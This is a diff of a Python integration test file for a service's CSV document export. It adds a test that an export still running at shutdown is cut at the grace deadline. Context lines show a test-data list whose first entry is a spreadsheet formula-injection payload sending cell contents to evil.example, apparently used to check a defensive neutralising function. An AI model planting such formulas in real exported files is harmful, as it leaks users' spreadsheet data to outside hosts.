@@ -12,9 +12,15 @@ from datetime import UTC, datetime
 import pytest
 import trio
 
-from daemon.modules.auth import Role
+from daemon.api import ApiContext, create_app, create_asgi
+from daemon.api.server import HttpService
+from daemon.modules.auth import Role, create_api_key
 from daemon.modules.exports import COLUMNS, ExportKind, neutralise
-from tests.integration.api_server import bearer, serve_api
+from daemon.modules.ingestion import IntakeWriter
+from daemon.shared.config import Settings
+from daemon.shared.db import migrate
+from daemon.shared.health import HealthState
+from tests.integration.api_server import FAST_HASHING, SYSTEM, bearer, free_port, serve_api
 
 TITLES = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -224,3 +230,46 @@ async def test_a_client_that_goes_away_cancels_the_copy_and_frees_its_slot(pool)
         assert len(again.content.splitlines()) == 100_001
         stats = pool.stats()
         assert stats.in_use == 0, stats
+
+
+async def test_an_export_in_flight_at_shutdown_is_cut_at_the_grace_deadline(pool):
+    """What the supervisor does on SIGTERM: stop the listener, let requests run for the
+    grace period, then cancel the HTTP service. An export whose client stopped reading
+    is cut there: its COPY stops, its audit event says so, its connection is back."""
+
+    async with pool.transaction() as conn:
+        await conn.execute(
+            "INSERT INTO documents (title, state)"
+            " SELECT repeat('y', 200) || g, 'completed' FROM generate_series(1, 100000) g"
+        )
+    settings = Settings(http_host="127.0.0.1", http_port=free_port(), **FAST_HASHING)
+    health = HealthState(expected_schema_version=migrate.latest_version(), started=True)
+    context = ApiContext(
+        settings=settings, health=health, pool=pool, intake_writer=IntakeWriter(pool)
+    )
+    service = HttpService(create_asgi(create_app(context), context), settings)
+
+    key = (await create_api_key(pool, name="k", role=Role.VIEWER, context=SYSTEM)).secret
+    async with trio.open_nursery() as http_group:
+        await http_group.start(service.run)
+        stream = await trio.open_tcp_stream("127.0.0.1", settings.http_port)
+        await stream.send_all(
+            b"GET /api/v1/exports/documents.csv HTTP/1.1\r\nHost: t\r\n"
+            b"Authorization: Bearer " + key.encode() + b"\r\n\r\n"
+        )
+        assert (await stream.receive_some(65536)).startswith(b"HTTP/1.1 200")
+        await trio.sleep(0.5)
+        assert await _copy_running(pool) == 1
+        service.request_stop()
+        await trio.sleep(0.5)  # within the grace period: the export is still in flight
+        assert await _copy_running(pool) == 1
+        http_group.cancel_scope.cancel()  # the grace deadline
+    # The service has returned: the export was cut, not left running.
+    with trio.fail_after(10):
+        while await _copy_running(pool):
+            await trio.sleep(0.05)
+    events = await audit_events(pool, "export.documents")
+    await stream.aclose()
+    assert len(events) == 1
+    assert events[0][1]["complete"] is False
+    assert pool.stats().in_use == 0
